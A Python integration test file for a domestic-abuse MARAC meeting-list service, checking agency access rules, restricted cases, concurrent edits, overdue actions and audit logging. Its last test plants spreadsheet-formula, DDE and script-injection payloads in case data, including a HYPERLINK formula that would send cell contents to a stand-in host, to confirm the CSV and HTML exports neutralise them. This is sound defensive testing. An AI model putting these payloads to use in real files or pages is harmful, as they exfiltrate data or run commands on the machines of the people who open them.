"""Meetings: who stands on which list, as whom one sees it, what is recorded and chased; on the real parts."""

from __future__ import annotations

import asyncio
import csv
import io
from copy import deepcopy
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest

from shared import keys
from shared.areas import load_area, load_areas
from shared.contracts.events import CaseDecided
from shared.db import Database
from tests.builders import an_incident
from tests.integration.test_delivery import World, world  # noqa: F401 (a fixture)
from tests.integration.waiting import until
from tests.unit.delivery.builders import a_receipt, a_route, case_decided

pytestmark = pytest.mark.asyncio(loop_scope="module")

REPEAT = {"victim": "a1", "perpetrator": "a2", "link": "certain"}


NORTHBURY = load_areas().by_id["northbury"]


def today() -> date:
    return NORTHBURY.local_day(datetime.now(UTC))


def next_open() -> date:
    """The meeting whose list a case referred now joins."""
    return NORTHBURY.meeting_for(datetime.now(UTC))


def next_held() -> date:
    return next(NORTHBURY.meetings_from(today()))


def referred(reference: str, *, version: int = 1, **changes: Any) -> CaseDecided:
    """A decision that routes a case to the MARAC of Northbury."""
    handling = changes.pop("handling", ["safe_contact_only"])
    routes = changes.pop("routes", [a_route("marac", about=["a1"])])
    receipt = a_receipt(routes)
    receipt["result"] = {**receipt["result"], "handling": handling, "victim_level": "high"}
    incident = an_incident(reference=reference, revision=version, **changes.pop("told", {}))
    return case_decided(*routes, incident=incident, receipt=receipt, version=version, **changes)


async def key_of(world: World, role: Any, person: str, agency: str, *areas: str) -> dict[str, str]:  # noqa: F811
    owner = Database(world.servers.database, "tests", as_owner=True)
    try:
        async with owner.transaction() as tx:
            _, key = await keys.create(tx, role=role, person=person, agency=agency, areas=areas)
    finally:
        await owner.close()
    return {"Authorization": f"Bearer {key}"}


async def coordinator(world: World, person: str = "c-1") -> dict[str, str]:  # noqa: F811
    return await key_of(world, "coordinator", person, "marac", "northbury", "westmoor")


async def listed(
    world: World,  # noqa: F811
    day: date,
    who: dict[str, str],
    case: str,
    area: str = "northbury",
) -> dict[str, Any]:
    """A case as it stands on a list, once it does."""
    found: list[dict[str, Any]] = []

    async def stands() -> bool:
        answer = await world.client.get(f"/v1/meetings/marac/{area}/{day}", headers=who)
        found[:] = [one for one in answer.json().get("cases", ()) if one["case"] == case]
        return bool(found)

    await until(stands, f"{case} on the list of {day}")
    return found[0]


async def act(
    world: World,  # noqa: F811
    day: date,
    caller: dict[str, str],
    area: str = "northbury",
    **posted: Any,
) -> Any:
    return await world.client.post(f"/v1/meetings/marac/{area}/{day}/acts", json=posted, headers=caller)


async def as_if_held_a_fortnight_ago(world: World, case: str) -> date:  # noqa: F811
    """Move a listed case to the meeting before: its day has come and gone."""
    day = next_held() - timedelta(weeks=2)
    await world.rows(
        """
        UPDATE meeting_cases SET held_on = :day, referred_at = referred_at - interval '30 days'
        WHERE "case" = :case AND standing = 'listed' RETURNING "case"
        """,
        day=day,
        case=case,
    )
    return day


async def test_a_case_joins_the_next_open_list_and_each_agency_sees_what_its_role_may_see(
    world: World,  # noqa: F811
) -> None:
    case = "northshire/m-first"
    history = {"status": "complete", "incidents": [], "involvement": [{"child": "c1", "level": "medium"}],
               "marac": [{**REPEAT, "referred_on": "2026-02-03", "heard_on": "2026-02-10"}]}  # fmt: skip
    await world.tell(referred("m-first", history=history))
    day = next_open()
    keeper = await coordinator(world)
    one = await listed(world, day, keeper, case)
    assert one["standing"] == "listed"
    assert one["late"] is None
    assert one["repeat_of"] == ["2026-02-10"], "heard, within twelve months"
    victim = next(a for a in one["view"]["incident"]["adults"] if a["id"] == "a1")
    assert victim["address"]["line1"] == "14 Mill Lane"
    assert one["view"]["history"]["involvement"][0]["level"] == "medium"

    seen = {}
    for agency in ("police", "health", "education", "childrens_services"):
        who = await key_of(world, "person", f"p-{agency}", agency, "northbury")
        seen[agency] = await listed(world, day, who, case)
    assert "involvement" not in seen["police"]["view"]["history"], (
        "social care's knowledge is not for the police"
    )
    assert seen["police"]["repeat_of"] == ["2026-02-10"]
    assert seen["health"]["repeat_of"] == []
    assert "Mill Lane" not in str(seen["health"]), "where she lives is not for every agency"
    assert "Hughes" in str(seen["education"])
    assert "Doyle" not in str(seen["education"])
    assert seen["childrens_services"]["view"]["history"]["involvement"]
    idva = await listed(world, day, world.key("northbury-idva"), case)
    assert "07700 900123" in str(idva)

    read = await world.rows(
        "SELECT who, details FROM audit WHERE act = 'meeting.read' AND details ->> 'seen_as' = 'health'"
    )
    assert {row["who"] for row in read} == {"p-health"}
    assert case in read[-1]["details"]["cases"]


async def test_nobody_learns_of_a_meeting_of_another_area_or_without_a_seat(world: World) -> None:  # noqa: F811
    day = next_open()
    stranger = await key_of(world, "coordinator", "c-south", "marac", "southmere")
    place = f"/v1/meetings/marac/northbury/{day}"
    for who, path, status in (
        (stranger, place, 404),
        (stranger, "/v1/meetings/marac/nowhere/next", 404),
        (await coordinator(world), "/v1/meetings/choir/northbury/next", 404),
        (await coordinator(world), f"/v1/meetings/marac/northbury/{day + timedelta(days=1)}", 404),
        (await coordinator(world), "/v1/meetings/marac/northbury/soon", 404),
        (world.key("northbury-programme"), place, 403),
        (await key_of(world, "ops", "o-1", "ops"), place, 403),
        (await key_of(world, "person", "p-x", "partnership", "northbury"), place, 403),
        (world.key("police"), place, 403),
        ({}, place, 401),
    ):
        assert (await world.client.get(path, headers=who)).status_code == status, path
    assert (
        await act(world, day, stranger, act="attendance", agency="health", standing="attended")
    ).status_code == 404
    told = (await world.client.get("/v1/meetings", headers=stranger)).json()["meetings"]
    assert {one["area"] for one in told} <= {"southmere"}


async def test_the_next_meetings_are_the_calendars_with_their_cut_off(world: World) -> None:  # noqa: F811
    await world.tell(referred("m-counted"))
    keeper = await coordinator(world)
    await listed(world, next_open(), keeper, "northshire/m-counted")
    told = (await world.client.get("/v1/meetings?kind=marac&area=northbury", headers=keeper)).json()["meetings"]
    coming = [one for one in told if one["date"] >= str(today())]
    assert len(coming) == 4
    days = [date.fromisoformat(one["date"]) for one in coming]
    assert days == sorted(days)
    assert all(NORTHBURY.is_working_day(day) for day in days)
    own = next(one for one in coming if one["date"] == next_open().isoformat())
    assert own["closed"] is False
    assert own["cases"] >= 1
    assert all(one["closed"] for one in coming if date.fromisoformat(one["date"]) < next_open())
    following = await world.client.get("/v1/meetings/marac/northbury/next", headers=keeper)
    assert following.json()["date"] == coming[0]["date"]


async def test_a_case_after_the_cut_off_waits_for_the_next_meeting_unless_a_person_adds_it(
    world: World,  # noqa: F811
) -> None:
    case = "northshire/m-late"
    area = load_area(world.folder / "areas" / "westmoor.yaml")
    closed, later = next(area.meetings_from(today())), area.meeting_for(datetime.now(UTC))
    assert closed < later, "a meeting each week, whose list closes eight days before"
    await world.tell(referred("m-late", routes=[a_route("marac", area="westmoor")]))
    keeper = await coordinator(world)
    one = await listed(world, later, keeper, case, area="westmoor")
    assert one["late"] is None

    async def move(who: dict[str, str], **changes: Any) -> Any:
        said = {"case": case, "seq": one["seq"], "to": str(closed), "because": "She is at risk now.", **changes}
        return await act(world, later, who, area="westmoor", act="move", **said)

    refused = await move(keeper, because=" ")
    assert (refused.status_code, refused.json()["fields"]) == (422, ["because"])
    assert (await move(await key_of(world, "person", "p-1", "police", "westmoor"))).status_code == 403
    assert (await move(keeper, to=str(closed + timedelta(days=1)))).status_code == 409, (
        "no meeting is held then"
    )
    assert (await move(keeper)).status_code == 200
    late = await listed(world, closed, keeper, case, area="westmoor")
    assert late["late"] == {"by": "c-1", "because": "She is at risk now."}
    assert late["moved_from"] == str(later)
    health = await key_of(world, "person", "p-2", "health", "westmoor")
    late = await listed(world, closed, health, case, area="westmoor")
    assert late["late"] == {"by": "c-1", "because": None}, "what people write may say where she is"
    left = await listed(world, later, keeper, case, area="westmoor")
    assert (left["standing"], left["moved_to"]) == ("moved", str(closed))
    assert left["view"] is None
    assert (await move(keeper)).status_code == 409, "somebody moved it before"


async def test_the_second_of_two_people_is_told_what_changed(world: World) -> None:  # noqa: F811
    case = "northshire/m-two"
    await world.tell(referred("m-two"))
    first, second = await coordinator(world), await coordinator(world, "c-2")
    one = await listed(world, next_open(), first, case)
    await world.tell(referred("m-two", version=2, told={"summary": "She has been hurt since."}))

    async def newer() -> bool:
        return bool((await listed(world, next_open(), second, case))["version"] == 2)

    await until(newer, "version 2 on the list")
    day = await as_if_held_a_fortnight_ago(world, case)
    stale = await act(world, day, first, act="heard", case=case, seq=one["seq"])
    assert stale.status_code == 409
    assert stale.json()["now"]["version"] == 2
    seq = stale.json()["now"]["seq"]
    both = await asyncio.gather(
        *(act(world, day, who, act="heard", case=case, seq=seq) for who in (first, second))
    )
    assert sorted(answer.status_code for answer in both) == [200, 409]
    [told] = [answer.json()["now"] for answer in both if answer.status_code == 409]
    assert told["heard_by"] in ("c-1", "c-2")
    at: dict[str, Any] = {"act": "attendance", "agency": "health", "who": "Ms Price", "seq": 0}
    assert (await act(world, day, first, **at, standing="attended")).status_code == 200
    other = await act(world, day, second, **at, standing="apologies")
    assert (other.status_code, other.json()["now"]["standing"]) == (409, "attended")


async def test_what_was_heard_becomes_an_outcome_that_history_learns(world: World) -> None:  # noqa: F811
    case = "northshire/m-heard"
    await world.tell(referred("m-heard"))
    keeper = await coordinator(world)
    one = await listed(world, next_open(), keeper, case)
    to_come = await act(world, next_open(), keeper, act="heard", case=case, seq=one["seq"])
    assert to_come.status_code == (409 if next_open() > today() else 200)
    day = await as_if_held_a_fortnight_ago(world, case)
    seq = (await listed(world, day, keeper, case))["seq"]
    told = (await world.client.get("/v1/meetings", headers=keeper)).json()["meetings"]
    [past] = [one for one in told if (one["kind"], one["date"]) == ("marac", str(day))]
    assert past["not_said"] >= 1, "a case of which nobody said what became of it is not forgotten"
    assert (await act(world, day, keeper, act="heard", case=case, seq=seq)).status_code == 200

    def heard() -> list[str] | None:
        found = world.outcome(case)
        return None if found is None else [f"{one.kind} {one.heard_on}" for one in found.heard]

    await until(lambda: heard() == [f"marac {day}"], "the outcome says so")
    await world.tell(referred("m-heard", version=2, told={"summary": "More is known."}))
    await world.state(case, "routed", 2)
    assert heard() == [f"marac {day}"], "a newer version forgets nothing"
    seq = (await listed(world, day, keeper, case))["seq"]
    assert (await act(world, day, keeper, act="not_heard", case=case, seq=seq)).status_code == 200
    await until(lambda: heard() == [], "the outcome takes it back")


async def test_an_overdue_action_is_asked_for_then_done_and_undone(world: World) -> None:  # noqa: F811
    case = "northshire/m-action"
    await world.tell(referred("m-action"))
    keeper = await coordinator(world)
    day = next_open()
    await listed(world, day, keeper, case)
    due = str(day + timedelta(days=7))
    agreeing = {
        "act": "agree",
        "case": case,
        "what": "Change the locks at 14 Mill Lane.",
        "agency": "idva",
        "due": due,
    }
    assert (await act(world, day, keeper, **{**agreeing, "due": "2019-01-01"})).status_code == 422
    agreed = await act(world, day, keeper, **agreeing, id="a-1")
    assert agreed.json()["status"] == "recorded"
    assert (await act(world, day, keeper, **agreeing, id="a-1")).json()["status"] == "repeated"
    health = await key_of(world, "person", "p-health", "health", "northbury")
    [seen] = (await listed(world, day, health, case))["actions"]
    assert seen["what"] is None, "it says where she is"
    assert (await act(world, day, health, act="done", id="a-1", seq=1)).status_code == 403

    async def asked(times: int) -> bool:
        await world.rows(
            "UPDATE meeting_actions SET chase_at = now(), due = current_date - 1"
            " WHERE id = 'a-1' AND chase_at IS NOT NULL RETURNING id"
        )
        [row] = await world.rows("SELECT chases FROM meeting_actions WHERE id = 'a-1'")
        return bool(row["chases"] >= times)

    await until(lambda: asked(3), "asked three times")
    notices = await world.rows("SELECT recipient FROM notices WHERE kind = 'action_overdue' ORDER BY about")
    assert [row["recipient"] for row in notices] == ["northbury-idva", "northbury-marac", "northbury-marac"]
    [overdue] = (await listed(world, day, keeper, case))["actions"]
    assert (overdue["state"], overdue["asked_again"]) == ("overdue", 3)
    own = world.key("northbury-idva")
    assert (await act(world, day, own, act="done", id="a-1", seq=1)).json()["action"]["state"] == "done"
    stale = await act(world, day, keeper, act="undone", id="a-1", seq=1)
    assert (stale.status_code, stale.json()["now"]["done_by"]) == (409, "northbury-idva")
    assert (await act(world, day, keeper, act="undone", id="a-1", seq=2)).json()["action"]["state"] == "overdue"
    lines = await world.rows("SELECT who, act FROM audit WHERE details ->> 'action' = 'a-1' ORDER BY id")
    assert [(row["who"], row["act"]) for row in lines if row["who"] != "delivery"] == [
        ("c-1", "meeting.agree"), ("northbury-idva", "meeting.done"), ("c-1", "meeting.undone"),
    ]  # fmt: skip


async def test_a_restricted_case_is_shown_to_named_staff_alone(world: World) -> None:  # noqa: F811
    case = "northshire/m-restricted"
    await world.tell(referred("m-restricted", handling=["restricted", "no_family_contact"]))
    keeper = await coordinator(world)
    day = next_open()

    async def counted() -> bool:
        told = (await world.client.get(f"/v1/meetings/marac/northbury/{day}", headers=keeper)).json()
        return told["restricted_not_shown"] == 1 and case not in {one["case"] for one in told["cases"]}

    await until(counted, "that there is one, and no more")
    page = await world.client.get(f"/v1/meetings/marac/northbury/{day}?format=print", headers=keeper)
    assert "1 restricted case is shown to named staff only" in page.text
    assert "m-restricted" not in page.text
    assert (await act(world, day, keeper, act="heard", case=case, seq=1)).status_code == 404
    elsewhere = referred(
        "m-named", handling=["restricted"], routes=[a_route("marac", area="westmoor", about=["a1"])]
    )
    await world.tell(elsewhere)
    day = load_area(world.folder / "areas" / "westmoor.yaml").meeting_for(datetime.now(UTC))
    one = await listed(world, day, keeper, "northshire/m-named", area="westmoor")
    assert one["restricted"], "c-1 is named by the coordinator's office of Westmoor"
    assert one["view"]["incident"]["adults"]
    other = await coordinator(world, "c-2")
    told = (await world.client.get(f"/v1/meetings/marac/westmoor/{day}", headers=other)).json()
    assert told["restricted_not_shown"] == 1
    assert "m-named" not in str(told["cases"])


async def test_what_is_withdrawn_or_no_longer_referred_says_so_and_tells_nothing_more(
    world: World,  # noqa: F811
) -> None:
    keeper, day = await coordinator(world), next_open()
    for reference in ("m-back", "m-lowered"):
        await world.tell(referred(reference))
        await listed(world, day, keeper, f"northshire/{reference}")
    await world.tell(referred("m-back", version=2, routes=[], state="withdrawn", told={"withdrawn": True}))
    await world.tell(referred("m-lowered", version=2, routes=[a_route()]))
    for reference, standing in (("m-back", "withdrawn"), ("m-lowered", "not_referred")):

        async def so(case: str = f"northshire/{reference}", standing: str = standing) -> bool:
            return bool((await listed(world, day, keeper, case))["standing"] == standing)

        await until(so, standing)
        assert (await listed(world, day, keeper, f"northshire/{reference}"))["view"] is None
    await world.tell(referred("m-lowered", version=3))

    async def again() -> bool:
        return bool((await listed(world, day, keeper, "northshire/m-lowered"))["view"])

    await until(again, "it takes its place again")


async def test_a_family_of_two_areas_stands_on_both_lists_and_a_test_record_on_none(world: World) -> None:  # noqa: F811
    routes = [
        a_route("marac", about=["a1"]),
        a_route("marac", about=["c1"], area="westmoor"),
        a_route("allocation_panel", about=["c1"]),
    ]
    history = {"status": "complete", "incidents": [], "marac": [{**REPEAT, "referred_on": "2026-02-03"}]}
    await world.tell(
        referred("m-both", routes=routes, history=history), referred("m-test", told={"test": True})
    )
    keeper, day = await coordinator(world), next_open()
    one = await listed(world, day, keeper, "northshire/m-both")
    assert one["repeat_of"] == ["2026-02-03"]
    there = load_area(world.folder / "areas" / "westmoor.yaml").meeting_for(datetime.now(UTC))
    await listed(world, there, keeper, "northshire/m-both", area="westmoor")
    panel = await world.client.get(f"/v1/meetings/allocation_panel/northbury/{day}", headers=keeper)
    assert [one["case"] for one in panel.json()["cases"]] == ["northshire/m-both"]
    assert "police" in {agency["agency"] for agency in panel.json()["attendance"]}
    assert await world.rows("SELECT 1 FROM meeting_cases WHERE \"case\" = 'northshire/m-test'") == []
    # The earlier referral turns out to be other people's, and the child lives in Northbury after all.
    apart = {"status": "complete", "incidents": [], "marac": []}
    await world.tell(referred("m-both", version=2, routes=routes[:1], history=apart))

    async def split() -> bool:
        here = await listed(world, day, keeper, "northshire/m-both")
        gone = await listed(world, there, keeper, "northshire/m-both", area="westmoor")
        return (here["repeat_of"], here["standing"], gone["standing"]) == ([], "listed", "not_referred")

    await until(split, "no repeat any more, and off the other area's list")


async def test_what_is_no_act_is_said_to_be_none_and_breaks_nothing(world: World) -> None:  # noqa: F811
    await world.tell(referred("m-bad"))
    keeper, day = await coordinator(world), next_open()
    case = (await listed(world, day, keeper, "northshire/m-bad"))["case"]
    wrong: tuple[Any, ...] = (
        [], 7, {}, {"act": "burn"}, {"act": "heard"}, {"act": "heard", "case": case, "seq": "one"},
        {"act": "heard", "case": case, "seq": 2**40}, {"act": "heard", "case": case, "seq": 1, "on": "someday"},
        {"act": "heard", "case": "a\x00b"}, {"act": "move", "case": case, "seq": 1, "to": "2026-12-40"},
        {"act": "move", "case": case, "seq": 1, "to": str(day), "because": "x" * 1001},
        {"act": "attendance", "agency": "circus", "standing": "attended"}, {"act": "done", "seq": 1},
        {"act": "agree", "case": case, "what": " ", "agency": "idva", "due": str(day)},
        {"act": "heard", "case": case, "seq": 1, "heard_by": "somebody else"},
    )  # fmt: skip
    for posted in wrong:
        answer = await world.client.post(
            f"/v1/meetings/marac/northbury/{day}/acts", json=posted, headers=keeper
        )
        assert answer.status_code == 422, posted
        assert answer.headers["content-type"] == "application/problem+json"
    for act_on in ({"act": "heard", "case": "northshire/nothing"}, {"act": "done", "id": "none", "seq": 1}):
        assert (await act(world, day, keeper, **act_on)).status_code == 404
    assert (await listed(world, day, keeper, case))["seq"] == 1


async def test_a_list_is_had_as_a_spreadsheet_without_formulas_and_on_paper(world: World) -> None:  # noqa: F811
    hostile = '=HYPERLINK("http://example.test/?"&A1)'
    people = deepcopy(an_incident()["adults"])
    people[0]["name"] = {"given": hostile, "family": "<script>alert(1)</script>"}
    await world.tell(referred("m-hostile", told={"adults": people, "summary": "+1+cmd|' /C calc'!A0"}))
    keeper, day = await coordinator(world), next_open()
    await listed(world, day, keeper, "northshire/m-hostile")
    place = f"/v1/meetings/marac/northbury/{day}"
    await act(world, day, keeper, act="agree", case="northshire/m-hostile", what="@SUM(1)", agency="police",
              due=str(day), id="a-hostile")  # fmt: skip
    sheet = await world.client.get(place, headers={**keeper, "Accept": "text/csv"})
    assert sheet.headers["content-type"] == "text/csv; charset=utf-8"
    assert f'filename="marac-northbury-{day}-marac.csv"' in sheet.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(sheet.content.decode("utf-8-sig"))))
    [row] = [row for row in rows if row["case"] == "northshire/m-hostile"]
    assert row["victim"].startswith("'=HYPERLINK")
    assert all(not value.lstrip().startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    page = await world.client.get(place, headers={**keeper, "Accept": "text/html,application/xhtml+xml"})
    assert page.headers["content-type"].startswith("text/html")
    assert "<script" not in page.text
    assert "&lt;script&gt;" in page.text
    assert page.headers["cache-control"] == "no-store"
    style = await world.client.get("/v1/meetings/list.css")
    assert "@page" in style.text
